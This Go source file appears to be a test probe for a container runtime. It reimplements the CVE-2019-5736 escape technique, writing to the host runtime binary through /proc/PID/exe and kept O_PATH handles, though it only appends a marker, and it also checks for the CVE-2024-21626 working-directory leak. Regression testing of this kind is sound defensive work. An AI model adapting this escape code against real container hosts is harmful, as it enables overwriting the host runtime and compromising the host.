package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// ExeAttack is what `probe attack-exe` found: the CVE-2019-5736 payload's
// view of every runtime process it caught inside the container.
type ExeAttack struct {
	// Seen counts foreign processes (not the probe, not busybox) whose exe
	// link could be read, Targets their distinct exe links.
	Seen    int      `json:"seen"`
	Targets []string `json:"targets"`
	// Opened lists exe files that opened for writing; Written those that
	// also took a write. Only Written means the host binary was reachable.
	Opened  []string `json:"opened"`
	Written []string `json:"written"`
}

// attackMarker is appended (never overwritten) so a vulnerable runtime's
// binary still runs and the test sees a changed checksum.
const attackMarker = "\nocirun-cve-2019-5736-marker\n"

// cmdAttackExe is the CVE-2019-5736 payload. Until DIR/stop appears or the
// time runs out, it scans /proc for runtime processes entering the container
// and tries to write their executable, both through /proc/PID/exe while they
// run and by reopening a kept O_PATH handle once they are gone (the way the
// original exploit waits for ETXTBSY to clear). The result goes to
// DIR/result.json.
func cmdAttackExe(args []string) {
	if len(args) != 2 {
		fatalf("usage: probe attack-exe DIR SECONDS")
	}
	dir := args[0]
	secs, err := strconv.Atoi(args[1])
	if err != nil {
		fatalf("attack-exe: %v", err)
	}
	self, _ := os.Readlink("/proc/self/exe")
	own := map[string]bool{self: true, "/bin/busybox": true}
	var res ExeAttack
	targets := map[string]bool{}
	kept := map[int]int{} // pid -> O_PATH fd of its exe
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(filepath.Join(dir, "stop")); err == nil {
			break
		}
		for _, pid := range listPids() {
			if pid == os.Getpid() {
				continue
			}
			if _, ok := kept[pid]; ok {
				continue
			}
			exe := fmt.Sprintf("/proc/%d/exe", pid)
			link, err := os.Readlink(exe)
			if err != nil || own[link] {
				continue
			}
			res.Seen++
			if !targets[link] {
				targets[link] = true
				res.Targets = append(res.Targets, link)
			}
			tryWrite(exe, link, &res)
			if fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil && len(kept) < 256 {
				kept[pid] = fd
			} else if err == nil {
				unix.Close(fd)
			}
		}
		for pid, fd := range kept {
			if unix.Kill(pid, 0) == nil {
				continue
			}
			tryWrite("/proc/self/fd/"+strconv.Itoa(fd), fmt.Sprintf("pid %d after exit", pid), &res)
			unix.Close(fd)
			delete(kept, pid)
		}
	}
	for pid, fd := range kept {
		tryWrite("/proc/self/fd/"+strconv.Itoa(fd), fmt.Sprintf("pid %d at the end", pid), &res)
	}
	data, _ := json.Marshal(&res)
	if err := os.WriteFile(filepath.Join(dir, "result.json"), data, 0o644); err != nil {
		fatalf("attack-exe: %v", err)
	}
}

// tryWrite opens path for writing and appends the marker; what worked is recorded.
func tryWrite(path, what string, res *ExeAttack) {
	fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(fd)
	res.Opened = append(res.Opened, what)
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil {
		return
	}
	if n, err := unix.Pwrite(fd, []byte(attackMarker), st.Size); err == nil && n > 0 {
		res.Written = append(res.Written, what)
	}
}

func listPids() []int {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	var pids []int
	for _, e := range ents {
		if pid, err := strconv.Atoi(e.Name()); err == nil {
			pids = append(pids, pid)
		}
	}
	return pids
}

// cmdGetcwd prints the kernel's getcwd(2) answer unfiltered: a directory
// outside the process's root comes back prefixed "(unreachable)", which
// os.Getwd would hide behind an error (CVE-2024-21626).
func cmdGetcwd() {
	buf := make([]byte, unix.PathMax)
	n, err := unix.Getcwd(buf)
	if err != nil {
		fmt.Println("error:", errnoName(err))
		return
	}
	fmt.Println(strings.TrimRight(string(buf[:n]), "\x00"))
}
